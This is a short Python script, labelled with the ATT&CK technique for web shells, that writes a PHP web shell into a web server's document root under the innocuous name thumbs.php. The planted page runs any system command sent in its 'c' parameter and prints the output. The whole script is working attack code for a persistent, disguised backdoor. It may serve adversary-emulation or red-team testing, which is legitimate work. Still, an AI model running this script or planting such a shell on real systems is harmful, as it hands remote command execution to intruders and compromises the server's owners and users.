#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
# T1505.003 Web Shell: a page in the web server's folder that would run what a visitor sends.
PAGE = '<?php if (isset($_REQUEST["c"])) { echo "<pre>"; system($_REQUEST["c"]); echo "</pre>"; } ?>\n'

with open("/var/www/html/thumbs.php", "w") as f:
    f.write(PAGE)
